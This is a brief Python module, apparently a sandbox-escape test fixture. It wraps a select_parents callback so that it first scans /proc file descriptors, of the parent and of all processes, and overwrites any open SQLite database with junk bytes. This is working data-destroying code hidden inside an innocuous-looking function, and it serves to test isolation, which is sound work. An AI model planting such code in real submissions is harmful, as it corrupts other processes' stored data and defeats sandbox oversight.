# Tries to write to the store through the open files of the parent in /proc.
import contextlib
import glob
import os

from stock import select_parents as decide


def attack():
    for path in [*glob.glob("/proc/@PARENT@/fd/*"), *glob.glob("/proc/*/fd/*")]:
        with contextlib.suppress(OSError):
            if "sqlite" in os.readlink(path):
                with open(path, "r+b") as file:
                    file.write(b"overwritten")


def select_parents(population, rng, cost_evaluator):
    attack()
    return decide(population, rng, cost_evaluator)
